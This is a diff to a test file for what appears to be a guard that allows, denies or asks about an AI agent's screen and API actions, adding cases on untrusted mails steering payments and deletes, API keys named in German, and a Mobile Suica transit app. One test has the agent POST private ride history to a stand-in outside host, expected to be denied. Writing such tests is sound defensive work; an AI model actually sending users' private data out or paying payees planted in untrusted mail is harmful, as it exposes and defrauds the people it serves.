@@ -1,8 +1,10 @@
 // Held-out round 59: an account number listed on its own line of an untrusted mail steers the
 // payment that pays it; a folder a mail names steers the delete of that folder under its full
-// path; an API key is named in other languages too, in a draft and on the screen that shows it.
+// path; an API key is named in other languages too, in a draft and on the screen that shows it;
+// a transit card's ride history is private; an amount chip with its currency after it ("3,000円")
+// is the sum the next Charge pays.
 import { describe, expect, it } from 'vitest';
-import { decide, engine, gui, tool } from '../../../helpers/engine';
+import { api, decide, engine, gui, tool } from '../../../helpers/engine';
 
 describe('steered payees and paths', () => {
   it('a new IBAN on its own line of a "bank details changed" mail, typed and paid: denied', () => {
@@ -48,5 +50,20 @@ describe('API keys in other languages', () => {
   });
   it('a mail about the API-Schlüssel without one is a draft', () => {
     expect(decide(engine(), body('Den API-Schlüssel schicke ich Ihnen morgen über das Portal.')).decision).toBe('allow');
+  });
+});
+
+describe('transit cards', () => {
+  const app = 'com.mobilesuica.msafe';
+  it("Mobile Suica's ride history posted to an outside host is denied", () => {
+    const e = engine();
+    decide(e, gui('a', 'dev', { op: 'read_screen', app }), { texts: ['SF利用履歴', '12/02 入 経堂 出 神田 -356', '12/02 物販 ファミリーマート -540', '残額 2,148円'] });
+    expect(decide(e, api('a', 'POST', 'https://collect.trip-insight.example/v1/rides', { rides: ['12/02 入 経堂 出 神田 -356'] })).decision).toBe('deny');
+  });
+  it('charging 3,000円 picked as a chip asks; the charge menu alone opens the flow', () => {
+    const e = engine();
+    expect(decide(e, gui('a', 'dev', { op: 'tap', app, target: { text: '入金（チャージ）' } })).decision).toBe('allow');
+    expect(decide(e, gui('a', 'dev', { op: 'tap', app, target: { text: '3,000円' } })).decision).toBe('allow');
+    expect(decide(e, gui('a', 'dev', { op: 'tap', app, target: { resourceId: `${app}:id/btn_charge`, text: 'チャージする' } })).decision).toBe('ask');
   });
 });
